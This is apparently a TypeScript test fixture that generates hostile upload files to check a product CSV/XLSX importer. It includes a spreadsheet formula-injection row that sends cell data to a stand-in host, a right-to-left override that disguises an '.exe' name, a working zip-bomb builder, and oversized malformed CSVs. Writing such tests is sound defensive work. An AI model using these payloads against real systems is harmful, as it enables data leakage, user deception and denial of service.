import { deflateRawSync } from 'node:zlib'

export interface HostileFile {
  readonly name: string
  readonly file: string
  readonly bytes: () => Uint8Array
}

const id = '00000000-0000-4000-8000-000000000000'
const header = 'Shelfside product ID,Name,Price\n'
const bytes = (text: string) => new TextEncoder().encode(text)
const csv = (name: string, text: () => string): HostileFile => ({
  name,
  file: 'a.csv',
  bytes: () => bytes(text()),
})

/** Each as large as is let in, where its size is what is hostile. */
export const hostileFiles: readonly HostileFile[] = [
  csv(
    'a formula in every row',
    () => header + `${id},"=HYPERLINK(""http://x/?""&A1)",20\n`.repeat(200_000),
  ),
  csv('bidi', () => header + `${id},Scarf \u202Efdp.exe,20\n`.repeat(200_000)),
  csv('NUL at the end', () => `${header}${'a,b,c\n'.repeat(3_000_000)}a,\0,c\n`),
  {
    name: 'lone surrogate, UTF-16',
    file: 'a.csv',
    bytes: () => toWide(`${header}${'x,y,z\n'.repeat(1_500_000)}a,\uD800,c\n`),
  },
  {
    name: 'UTF-16, too many rows',
    file: 'a.csv',
    bytes: () => toWide(header + 'x,y,z\n'.repeat(1_700_000)),
  },
  csv('\\r only, too many rows', () =>
    (header + 'x,y,z\n'.repeat(3_000_000)).replaceAll('\n', '\r'),
  ),
  csv('ragged rows', () => header + `${id},Scarf\n`.repeat(200_000)),
  csv(
    '200,000 rows of 45 empty cells',
    () => `${header.trim()}${','.repeat(45)}\n${`x${','.repeat(47)}\n`.repeat(200_000)}`,
  ),
  csv('duplicate header', () => `SKU,Price,Price\n${'1,2,3\n'.repeat(200_000)}`),
  csv('unclosed quote', () => `${header}"${'x,y\n'.repeat(4_500_000)}`),
  csv('a million columns', () => `${'a,'.repeat(1_000_000)}b\n`),
  csv('quotes alone', () => `${header}${'""'.repeat(9_000_000)}`),
  { name: 'a zip named .csv', file: 'a.csv', bytes: () => zip('xl/worksheets/sheet1.xml', 1_000) },
  {
    name: 'a zip bomb of 500 MB as .xlsx',
    file: 'a.xlsx',
    bytes: () => zip('xl/worksheets/sheet1.xml', 500 * 1024 * 1024),
  },
  {
    name: 'a zip bomb as .xlsx',
    file: 'a.xlsx',
    bytes: () => zip('xl/worksheets/sheet1.xml', 600 * 1024 * 1024),
  },
  csv('3,001 rows for one id', () => header + `${id},Scarf,20\n`.repeat(3_001)),
]

function toWide(text: string): Uint8Array {
  const wide = Buffer.from(`\uFEFF${text}`, 'utf16le')
  return new Uint8Array(wide.buffer, wide.byteOffset, wide.byteLength)
}

/** One entry of zeros, which says truly how large it becomes. */
function zip(name: string, size: number): Uint8Array {
  const packed = deflateRawSync(Buffer.alloc(size))
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  const central = Buffer.alloc(46)
  central.writeUInt32LE(0x02014b50, 0)
  for (const [record, at] of [
    [local, 8],
    [central, 10],
  ] as const) {
    record.writeUInt16LE(8, at)
    record.writeUInt32LE(packed.length, at + 10)
    record.writeUInt32LE(size, at + 14)
    record.writeUInt16LE(name.length, at + 18)
  }
  const before = 30 + name.length + packed.length
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(46 + name.length, 12)
  end.writeUInt32LE(before, 16)
  const named = Buffer.from(name)
  return new Uint8Array(Buffer.concat([local, named, packed, central, named, end]))
}
